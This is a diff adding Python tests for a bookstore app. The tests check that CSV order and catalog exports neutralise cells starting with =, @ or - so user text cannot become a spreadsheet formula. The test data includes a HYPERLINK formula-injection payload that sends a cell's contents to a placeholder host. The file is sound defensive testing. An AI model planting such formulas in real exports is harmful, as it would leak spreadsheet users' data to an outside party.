@@ -0,0 +1,35 @@
+"""CSV exports must not turn user text into spreadsheet formulas"""
+import csv
+import io
+import json
+
+from conftest import make_user
+
+ADDRESS = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+
+
+def test_order_export_escapes_formula_cells(bookstore):
+    seller = make_user(bookstore, 'penjual')
+    buyer = make_user(bookstore, '@pembeli')
+    book = bookstore.Book(title='-Edisi Revisi', author='Penulis', price=1000, stock=5,
+                          user_id=seller.id, category_id=1)
+    bookstore.db.session.add(book)
+    bookstore.db.session.commit()
+    bookstore.add_cart_line(buyer.id, book, 1)
+    bookstore.place_order(bookstore.cart_id_for(buyer.id), buyer.id, ADDRESS, 'transfer')
+
+    row, = csv.DictReader(io.StringIO(''.join(bookstore.export_orders('csv'))))
+    assert row['shipping_address'] == "'" + ADDRESS
+    assert row['customer'] == "'@pembeli"
+    assert row['title'] == "'-Edisi Revisi"
+    assert row['quantity'] == '1'
+
+    line = ''.join(bookstore.export_orders('ndjson'))
+    assert json.loads(line)['shipping_address'] == ADDRESS
+
+
+def test_escaped_catalog_imports_unchanged(bookstore):
+    catalog_io = bookstore.catalog_io
+    text = ''.join(catalog_io.write_rows([{'title': '=1+1', 'author': "'Kutip", 'price': 1000}], 'csv'))
+    (_, record), = catalog_io.read_rows(io.StringIO(text), 'csv')
+    assert (record['title'], record['author']) == ('=1+1', "'Kutip")